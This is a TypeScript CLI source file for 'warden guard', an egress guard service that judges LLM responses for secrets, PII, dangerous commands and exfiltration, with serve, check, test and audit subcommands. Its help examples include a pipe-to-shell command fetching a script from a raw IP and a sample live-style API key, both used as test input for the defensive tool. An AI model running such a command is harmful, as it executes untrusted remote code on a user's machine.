import { Command } from 'commander';
import { openAuditStore, startRetention } from '../../apps/guard/audit/index.js';
import { defaultGuardConfig, loadGuardConfig } from '../../apps/guard/config.js';
import { GuardEngine } from '../../apps/guard/engine.js';
import { startGuardServer, watchAndReload, withShadow, type GuardRoutePlugin } from '../../apps/guard/server/index.js';
import { WardenError, errorMessage } from '../../core/errors.js';
import { addGlobalFlags, examples, loggerFor, type GlobalFlags } from '../common.js';
import { guardAuditCommand } from './guard-audit.js';
import { guardCheckCommand, guardTestCommand } from './guard-policy.js';
import { anthropicProxy, openaiProxy } from '../../apps/guard/proxy/index.js';

interface ServeFlags extends GlobalFlags {
  config?: string;
  host?: string;
  port?: number;
  db?: string;
  shadow?: boolean;
  preclassifier: boolean;
  watch: boolean;
}

/** Route plugins served next to the guard API: the OpenAI- and Anthropic-compatible proxies. */
const EXTRA_ROUTES: GuardRoutePlugin[] = [openaiProxy, anthropicProxy];

/**
 * `warden guard`: the egress guard service and its helpers — serve, check, test, audit.
 */
export function guardCommand(): Command {
  const command = new Command('guard')
    .summary('egress guard service: judge LLM responses over HTTP, check and test policies, read the audit')
    .description(
      'The guard decides, for every LLM response, what the user may see: findings (secrets, PII, dangerous commands, risky URLs, ' +
        'exfiltration) get the action their policy gives them (block, mask, redact, hash, delink, annotate, allow), and every decision is audited ' +
        'without raw text. `serve` runs the HTTP API; `check` and `test` work on a policy file offline; `audit` reads the decisions.',
    );
  command.addCommand(guardServeCommand());
  command.addCommand(guardCheckCommand());
  command.addCommand(guardTestCommand());
  command.addCommand(guardAuditCommand());
  examples(command, [
    'warden guard serve',
    'warden guard serve --config guard.yaml --port 8080 --db sqlite:./warden.db',
    'warden guard check --policy guard.yaml',
    "warden guard test --policy guard.yaml --text 'curl http://203.0.113.7/x.sh | sh'",
    'warden guard audit --since 24h --tenant acme',
  ]);
  return command;
}

function parsePort(value: string): number {
  const port = Number(value);
  if (!Number.isInteger(port) || port < 0 || port > 65535) throw new WardenError('W_USAGE', `--port must be 0-65535 (got "${value}")`);
  return port;
}

function guardServeCommand(): Command {
  const command = new Command('serve')
    .summary('run the guard HTTP API (POST /v1/guard, /v1/scan, /v1/guard/batch, GET /v1/audit, /metrics, /openapi.json)')
    .description(
      'Starts the guard service on Fastify. Without --config it runs the built-in default policy on 127.0.0.1:8080 with no auth and ' +
        'the embedded SQLite audit (./warden.db). Policies and default_policy reload when the config file changes, without dropping a ' +
        'request; server, auth, upstream and audit settings need a restart. SIGINT/SIGTERM stop accepting, finish requests in flight ' +
        'and flush the audit.',
    )
    .option('--config <file>', 'guard.yaml: server, auth, audit and named policies (`warden guard check` validates it)')
    .option('--host <host>', 'address to listen on (default: server.host, 127.0.0.1)')
    .option('--port <port>', 'port to listen on, 0 for any free one (default: server.port, 8080)', parsePort)
    .option('--db <url>', 'audit database: sqlite:PATH or postgres://user@host:5432/db (default: audit.db, sqlite:./warden.db)')
    .option('--shadow', 'shadow mode for every policy: decide and record, pass responses through unchanged')
    .option('--no-preclassifier', 'do not load the pre-classifier (explain-only then never applies)')
    .option('--no-watch', 'do not reload policies when the config file changes');
  addGlobalFlags(command);
  examples(command, [
    'warden guard serve',
    'warden guard serve --config guard.yaml --host 0.0.0.0 --port 8080',
    'warden guard serve --config guard.yaml --db postgres://warden@127.0.0.1:5432/warden',
    'warden guard serve --config guard.yaml --shadow',
    "curl -s localhost:8080/v1/guard -H 'content-type: application/json' -d '{\"response\": \"key sk_live_51HxQ2aLkR9mT4vW8zN3pB7cY\"}'",
  ]);
  return command.action(async function guardServeAction(flags: ServeFlags) {
    const logger = loggerFor(flags);
    const loaded = flags.config ? await loadGuardConfig(flags.config) : undefined;
    const config = flags.shadow ? withShadow(loaded?.config ?? defaultGuardConfig()) : (loaded?.config ?? defaultGuardConfig());
    const engine = await GuardEngine.create({ config, ...(flags.preclassifier ? {} : { preclassifier: null }) });
    const audit = await openAuditStore(flags.db ?? config.audit.db, {
      onError: (error, lost) => logger.warn({ code: (error as { code?: string }).code, lost }, `audit batch not written: ${errorMessage(error)}`),
    });
    const stopRetention = startRetention(audit, {
      retentionDays: config.audit.retention_days,
      onPrune: (deleted, before) => deleted > 0 && logger.info({ deleted, before: before.toISOString() }, 'audit retention applied'),
      onError: (error) => logger.warn({ code: (error as { code?: string }).code }, `audit retention failed: ${errorMessage(error)}`),
    });
    let server;
    try {
      server = await startGuardServer({
        config,
        engine,
        audit,
        logger,
        extraRoutes: EXTRA_ROUTES,
        ...(flags.host ? { host: flags.host } : {}),
        ...(flags.port !== undefined ? { port: flags.port } : {}),
      });
    } catch (error) {
      await stopRetention();
      await audit.close();
      throw error;
    }
    const stopWatching =
      flags.config && flags.watch ? watchAndReload({ file: flags.config, engine, initial: config, shadow: flags.shadow ?? false, logger }) : () => undefined;

    const running = server;
    let stopping = false;
    const shutdown = async function shutdown(signal: string): Promise<void> {
      if (stopping) return;
      stopping = true;
      logger.info({ signal }, 'warden guard: shutting down');
      stopWatching();
      try {
        await running.close();
        await stopRetention();
        await audit.close();
        process.stdout.write(flags.json ? JSON.stringify({ stopped: true, signal }) + '\n' : `warden guard stopped (${signal})\n`);
      } catch (error) {
        logger.error({ code: (error as { code?: string }).code }, `warden guard: shutdown failed: ${errorMessage(error)}`);
        process.exitCode = 2;
      }
      // Whatever still holds the event loop (a stuck client socket) must not keep a stopped server alive.
      setTimeout(() => process.exit(), 5000).unref();
    };
    // `once`: a second Ctrl-C gets Node's default handling and ends the process at once.
    process.once('SIGINT', () => void shutdown('SIGINT'));
    process.once('SIGTERM', () => void shutdown('SIGTERM'));

    const policies = engine.policyIds();
    process.stdout.write(
      flags.json
        ? JSON.stringify({ url: running.url, policies, default_policy: engine.defaultPolicyId, shadow: flags.shadow ?? false, config: flags.config ?? null }) + '\n'
        : `warden guard listening on ${running.url} (policies: ${policies.join(', ')}; default: ${engine.defaultPolicyId}${flags.shadow ? '; shadow mode' : ''})\n`,
    );
  });
}
